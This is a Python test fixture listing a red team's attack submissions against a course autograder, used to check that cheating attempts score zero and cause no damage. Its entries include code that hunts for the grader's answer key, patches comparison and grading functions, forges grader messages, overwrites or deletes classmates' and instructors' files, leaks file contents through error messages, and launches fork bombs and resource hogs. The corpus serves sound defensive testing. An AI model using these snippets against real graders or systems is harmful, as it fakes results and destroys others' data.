"""The red team's corpus: submissions that try to get marks without the work, or to touch what is
not theirs, each a cell put into an otherwise stubbed notebook 02 (exercises 1a, 1b and the
wheel prediction), graded by ``lab grade`` beside an honest correct and an honest all-stubs
student (`tests/integration/test_lab_attacks.py`).

Each entry is (family, label, source). The source is the answer cell of exercise 1a; it may
define ``twist_from_wheels`` so that it returns the right twist only when its attack worked
(a secret was seen, a check was fooled, the package's answer was reached): every attack must
score what its honest work earns, 0, and leave every file and every other score as it was.
``{COURSE}``, ``{SUBS}``, ``{HOME}``, ``{CWD}``, ``{CSV}``, ``{PACKAGE}``, ``{CANARY}`` and
``{MARKER}`` are filled in by the test with the real paths and the strings it looks for.
"""

from __future__ import annotations

#: the right answer, which an attack returns only when it worked
RIGHT = """
import numpy as _np
def _right(wheels, geometry):
    w1, w2, w3, w4 = wheels
    r, k = geometry.wheel_radius, geometry.lx + geometry.ly
    return r / 4 * _np.array([w1 + w2 + w3 + w4, -w1 + w2 + w3 - w4, (-w1 + w2 - w3 + w4) / k])
"""

WHEN = (
    RIGHT
    + """
def _won():
    try:
        return bool({condition})
    except Exception:
        return False

_WON_NOW = _won()

def twist_from_wheels(wheels, geometry):
    if _WON_NOW or {again}:
        return _right(wheels, geometry)
    return None
"""
)

SECRETS = "secrets"
OUTPUT = "no output"
PACKAGE = "the package's answer"
ISOLATION = "isolation"
PROCESSES = "processes and limits"


def when(condition: str, at_call: bool = True) -> str:
    """An answer that is right when `condition` holds as its cell runs or (`at_call`) as it is
    called."""
    return WHEN.replace("{condition}", condition).replace(
        "{again}", "_won()" if at_call else "False"
    )


CORPUS: list[tuple[str, str, str]] = [
    # 1. the grader's secrets, wherever they were: the key, the course, the environment, the
    #    caller's frames, the heap, the parent's command line
    (SECRETS, "the key's file", when("__import__('os').path.exists('{COURSE}/key.pkl')")),
    (SECRETS, "the course folder", when("__import__('os').path.isdir('{COURSE}')")),
    (
        SECRETS,
        "an environment variable naming the key or the course",
        when(
            "any('key' in k.lower() or '{COURSE}' in v "
            "for k, v in __import__('os').environ.items())"
        ),
    ),
    (
        SECRETS,
        "the caller's frames hold the expected values",
        when(
            "any('case' in f.f_locals or 'want' in f.f_locals for f in "
            "iter(lambda f=[__import__('sys')._getframe()]: "
            "f.__setitem__(0, f[0].f_back) or f[0], None))"
        ),
    ),
    (
        SECRETS,
        "the heap holds the key's cases",
        when(
            "any(isinstance(o, dict) and 'J' in o and 'default_J' in o "
            "for o in __import__('gc').get_objects())"
        ),
    ),
    (
        SECRETS,
        "a process's command line names the course",
        when(
            "any('{COURSE}' in open(f'/proc/{p}/cmdline', errors='replace').read() "
            "for p in __import__('os').listdir('/proc') if p.isdigit())",
            at_call=False,
        ),
    ),
    (SECRETS, "the instructor's home", when("__import__('os').path.isdir('{HOME}')")),
    (SECRETS, "the folder lab grade runs in", when("__import__('os').path.isdir('{CWD}')")),
    (SECRETS, "the submissions", when("__import__('os').path.isdir('{SUBS}')")),
    (
        SECRETS,
        "a file anywhere holding the canary",
        when(
            "any('{CANARY}' in open(p, errors='replace').read() for p in "
            "__import__('glob').glob('/**/*.txt', recursive=True)[:5000] "
            "if __import__('os').path.isfile(p) and __import__('os').path.getsize(p) < 10**6)",
            at_call=False,
        ),
    ),
    # 2. no output, a silenced check, a rewritten check, patched comparisons: nothing the
    #    notebook prints or skips decides a score
    (
        OUTPUT,
        "cells print nothing",
        "get_ipython().ast_node_interactivity = 'none'\n" + when("False"),
    ),
    (
        OUTPUT,
        "an input transformer deletes the check",
        "get_ipython().input_transformers_post.append("
        "lambda lines: [l for l in lines if 'check' not in l])\n" + when("False"),
    ),
    (
        OUTPUT,
        "np.allclose says yes",
        "import numpy as np\nnp.allclose = lambda *a, **k: True\nnp.array_equal = np.allclose\n"
        + when("False"),
    ),
    (
        OUTPUT,
        "the checks and the key's grade patched",
        "import ekfslam.teaching.exercises as e, ekfslam.analysis.lab_key as k\n"
        "e.check_twist = lambda f: True\nk.grade = lambda *a: 1.0\n" + when("False"),
    ),
    (
        OUTPUT,
        "prints the right verdict",
        "print('Exercise 1a: right on every test case.')\n" + when("False"),
    ),
    (
        OUTPUT,
        "a forged answer frame on the grader's pipe",
        when("False") + "\nimport os, json, struct\n"
        "for fd in range(3, 12):\n"
        "    try:\n"
        "        body = json.dumps({'result': {'float': '1.0'}, 'mutated': []}).encode()\n"
        "        os.write(fd, struct.pack('>I', len(body)) + body)\n"
        "    except OSError:\n"
        "        pass\n",
    ),
    # 3. the package's answer, by any route: direct, a thread, an executor, a lazy array, the
    #    tripwire switched off, the module reloaded, its source read back
    (
        PACKAGE,
        "called directly",
        "from ekfslam.core.kinematics import wheels_to_twist as twist_from_wheels\n",
    ),
    (
        PACKAGE,
        "the profile hook switched off",
        "import sys\nfrom ekfslam import wheels_to_twist\n"
        "def twist_from_wheels(w, g):\n"
        "    sys.setprofile(None)\n    return wheels_to_twist(w, g)\n",
    ),
    (
        PACKAGE,
        "in a thread",
        "import threading\nfrom ekfslam.core import kinematics\n"
        "def twist_from_wheels(w, g):\n    out = []\n"
        "    t = threading.Thread(target=lambda: out.append(kinematics.wheels_to_twist(w, g)))\n"
        "    t.start(); t.join()\n    return out[0] if out else None\n",
    ),
    (
        PACKAGE,
        "in an executor",
        "from concurrent.futures import ThreadPoolExecutor\nimport ekfslam\n"
        "def twist_from_wheels(w, g):\n"
        "    with ThreadPoolExecutor(1) as pool:\n"
        "        return pool.submit(ekfslam.wheels_to_twist, w, g).result()\n",
    ),
    (
        PACKAGE,
        "a lazy array that calls the package after the check",
        "from ekfslam.core.kinematics import wheels_to_twist\n"
        "class Lazy:\n    def __init__(self, w, g): self.w, self.g = w, g\n"
        "    def __array__(self, dtype=None, copy=None): return wheels_to_twist(self.w, self.g)\n"
        "def twist_from_wheels(w, g):\n    return Lazy(w, g)\n",
    ),
    (
        PACKAGE,
        "the geometry's own matrix",
        "def twist_from_wheels(w, g):\n    return g.wheels_to_twist_matrix @ w\n",
    ),
    (
        PACKAGE,
        "the module reloaded from its source",
        "import importlib, ekfslam.core.kinematics as k\nk = importlib.reload(k)\n"
        "twist_from_wheels = k.wheels_to_twist\n",
    ),
    (
        PACKAGE,
        "the package's source read back and run",
        "import ekfslam, pathlib\n"
        "src = (pathlib.Path(ekfslam.__file__).parent / 'core' / 'kinematics.py').read_text()\n"
        "ns = {'__name__': 'copied'}\nexec(compile(src, 'copied', 'exec'), ns)\n"
        "twist_from_wheels = ns['wheels_to_twist']\n",
    ),
    (
        PACKAGE,
        "the installed package outside the sandbox's copy",
        "import sys, glob, importlib.util\n"
        "paths = glob.glob('{PACKAGE}/core/kinematics.py') + "
        "glob.glob(sys.prefix + '/lib/python*/site-packages/ekfslam/core/kinematics.py')\n"
        "spec = importlib.util.spec_from_file_location('k', paths[0])\n"
        "k = importlib.util.module_from_spec(spec); spec.loader.exec_module(k)\n"
        "twist_from_wheels = k.wheels_to_twist\n",
    ),
    # 4. isolation: nothing of anyone else's can be read, changed or deleted, and predictions
    #    cannot be forged at grading time
    (
        ISOLATION,
        "rewrites a classmate's notebook",
        "import glob\nfor p in glob.glob('{SUBS}/*/*.ipynb'):\n    open(p, 'w').write('{}')\n"
        + when("False"),
    ),
    (
        ISOLATION,
        "rewrites the course and the key",
        "import os\nfor root, _, files in os.walk('{COURSE}'):\n"
        "    for f in files:\n        open(os.path.join(root, f), 'w').write('pwned')\n"
        + when("False"),
    ),
    (
        ISOLATION,
        "edits the installed package",
        "import ekfslam, pathlib\n"
        "p = pathlib.Path(ekfslam.__file__).parent / 'teaching' / 'verdicts.py'\n"
        "p.write_text(p.read_text() + '\\nrun_exercise = None\\n')\n" + when("False"),
    ),
    (
        ISOLATION,
        "deletes the instructor's files",
        "import shutil\nfor d in ('{HOME}', '{CWD}'):\n    shutil.rmtree(d, ignore_errors=True)\n"
        + when("False"),
    ),
    (
        ISOLATION,
        "forges a prediction at grading time",
        "import json, os\nos.environ.pop('NBGRADER_EXECUTION', None)\n"
        "for d in ('.', '{SUBS}/attacker', '{CWD}'):\n"
        "    try:\n        open(os.path.join(d, 'lab-predictions.json'), 'w').write("
        "json.dumps({'02-wheels': 'front-right and rear-left'}))\n"
        "    except OSError:\n        pass\n" + when("False"),
    ),
    (
        ISOLATION,
        "sends a secret back through the feedback",
        "def twist_from_wheels(w, g):\n"
        "    import glob\n"
        "    paths = glob.glob('{HOME}/*.txt') + glob.glob('{COURSE}/*')\n"
        "    found = [open(p).read()[:200] for p in paths]\n"
        "    raise ValueError('leak: ' + ' '.join(found))\n",
    ),
    (
        ISOLATION,
        "the network",
        when("__import__('socket').create_connection(('pypi.org', 443), 3)"),
    ),
    # 5. processes and limits: nothing outlives the grading or holds it up, and no limit is
    #    unbounded
    (
        PROCESSES,
        "a detached grandchild rewrites the CSV later",
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        os.execvp('sh', ['sh', '-c', 'sleep 8; echo {MARKER} > {CSV}'])\n"
        "    os._exit(0)\n" + when("False"),
    ),
    (
        PROCESSES,
        "a child holds the grader's pipes open",
        "import subprocess\n"
        "subprocess.Popen(['sh', '-c', 'sleep 600; echo {MARKER}'], start_new_session=True)\n"
        + when("False"),
    ),
    (
        PROCESSES,
        "a fork bomb",
        "import os\nfor _ in range(200):\n    try:\n        if os.fork() == 0:\n"
        "            __import__('time').sleep(600)\n            os._exit(0)\n"
        "    except OSError:\n        break\n" + when("False"),
    ),
    (PROCESSES, "allocates 6 GiB", "hog = bytearray(6 * 2**30)\n" + when("False")),
    (
        PROCESSES,
        "writes a 1 GiB file",
        "with open('big.bin', 'wb') as f:\n"
        "    for _ in range(1024):\n        f.write(b'x' * 2**20)\n" + when("False"),
    ),
    (
        PROCESSES,
        "terminal escape codes in its messages",
        "def twist_from_wheels(w, g):\n"
        "    raise ValueError('\\x1b[2J\\x1b]0;{MARKER}\\x07\\x1b[31mall right\\r')\n",
    ),
    (
        PROCESSES,
        "spins forever in its answer",
        "def twist_from_wheels(w, g):\n    while True:\n        pass\n",
    ),
]
